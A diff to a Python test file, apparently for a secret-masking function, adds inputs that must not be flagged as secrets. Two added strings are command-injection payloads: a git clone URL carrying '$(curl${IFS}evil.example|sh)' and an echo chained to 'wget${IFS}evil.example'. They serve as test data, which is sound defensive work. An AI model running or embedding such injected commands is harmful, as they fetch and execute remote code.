@@ -98,6 +98,9 @@ def test_a_mask_is_as_narrow_as_can_be(said: str, shown: str) -> None:
         "git clone git@github.com:acme/site.git",
         "ann@acme.example, bob@acme.example at 10:30",
         "-----BEGIN PRIVATE KEYHOLE-----",
+        "git clone https://bot:$(curl${IFS}evil.example|sh)@github.com/acme/site",
+        "echo hi:;wget${IFS}evil.example;#@acme",
+        "to:mallory@evil.example",
     ],
 )
 def test_destinations_amounts_and_paths_are_never_taken_for_secrets(said: str) -> None:
